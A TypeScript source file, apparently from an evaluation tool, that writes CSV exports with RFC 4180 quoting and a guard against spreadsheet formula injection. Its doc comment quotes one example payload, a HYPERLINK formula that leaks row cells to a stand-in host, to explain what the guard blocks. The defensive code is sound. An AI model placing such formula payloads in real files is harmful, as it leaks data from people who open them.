/**
 * The one CSV writer of every export (a run's samples, a study's labels and metrics): RFC 4180
 * fields, CRLF line ends, and OWASP's CSV-injection guard on text.
 *
 * The guard: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be
 * read as a formula by a spreadsheet (`=HYPERLINK("http://x/?leak="&B3,"Click")` sends the row's
 * cells to another site when clicked), so it is written with a single quote before it and quoted:
 * `"'=HYPERLINK(…)"`. Only text is guarded: numbers (a score of -0.5) and booleans are written as
 * they are, so numeric columns stay numbers. Text that already starts with quotes followed by one
 * of those characters gets one more quote, so `csvText` undoes the guard exactly and a file parses
 * back to the stored values.
 */

/** A text cell a spreadsheet would run: a formula start, possibly behind single quotes the guard added. */
const FORMULA_START = /^'*[=+\-@\t\r]/;

/** One CSV field: text guarded (see above), then quoted when it holds a comma, a quote, a line break or edge spaces. */
export function csvField(v: unknown): string {
  if (v === null || v === undefined) return "";
  if (typeof v !== "string") return String(v);
  const guarded = FORMULA_START.test(v);
  const s = guarded ? `'${v}` : v;
  return guarded || /[",\r\n]|^\s|\s$/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

/** A parsed text cell back to the stored text: drops the quote the formula guard added. */
export function csvText(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell) ? cell.slice(1) : cell;
}

/** Rows as CSV: a header, then one CRLF-ended line per row (RFC 4180). */
export function rowsToCsv<C extends string>(
  columns: readonly C[],
  rows: readonly Record<C, unknown>[],
): string {
  const lines = [columns.join(",")];
  for (const r of rows) lines.push(columns.map((c) => csvField(r[c])).join(","));
  return `${lines.join("\r\n")}\r\n`;
}
